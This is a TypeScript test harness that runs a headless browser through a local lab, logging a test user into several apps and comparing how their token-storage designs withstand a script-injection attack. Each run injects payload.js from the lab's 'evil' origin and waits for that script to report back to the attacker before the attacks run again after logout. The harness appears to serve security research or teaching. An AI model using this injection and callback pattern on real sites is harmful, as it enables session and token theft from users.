import { runExhibits } from './headless-exhibits.ts'
import { until, type LabBrowser } from './lab-browser.ts'
import { startLab, type Lab } from './lab.ts'
import { appNames, originOf, type AppName } from './places.ts'
import type { Row } from './matrix.ts'
import type { Evidence } from './trials.ts'

/** Runs every attack and every exhibit in a browser, in fresh profiles. `look` sees the lab before it closes. */
export async function runHeadless(
  browser: LabBrowser,
  look: (lab: Lab) => Promise<void> = async () => {},
): Promise<{ rows: readonly Row[]; evidence: Evidence }> {
  const lab = await startLab()
  try {
    for (const app of appNames) await attackInBrowser(lab, browser, app)
    await runExhibits(lab, browser)
    await look(lab)
    return { rows: [...lab.rows.values()], evidence: lab.evidence }
  } finally {
    await lab.close()
  }
}

async function attackInBrowser(lab: Lab, browser: LabBrowser, app: AppName): Promise<void> {
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(`${originOf(lab.places, app)}/`)
    await page.click('#login')
    await page.click('button.user[value=ada]')
    await page.waitForSelector('#account:has-text("ada has")')
    await page.addScriptTag({ url: `${originOf(lab.places, 'evil')}/payload.js` })
    await page.click('#refresh')
    await until(() => lab.attacker.isScriptHome(app), `${app}: the script did not come home`)
    await page.close()

    await lab.attack(app)
    // A page that kept its tokens in memory has to log in anew; the provider still knows the user.
    const again = await context.newPage()
    await again.goto(`${originOf(lab.places, app)}/`)
    if (app === 'mem' || app === 'proxy') await again.click('#login')
    await again.waitForSelector('#account:has-text("ada has")')
    await again.click('#logout')
    await again.waitForSelector('#account:has-text("Logged out"), #account:has-text("Not logged in (401)")')
    await lab.attackAfterLogout(app)
  } finally {
    await context.close()
  }
}
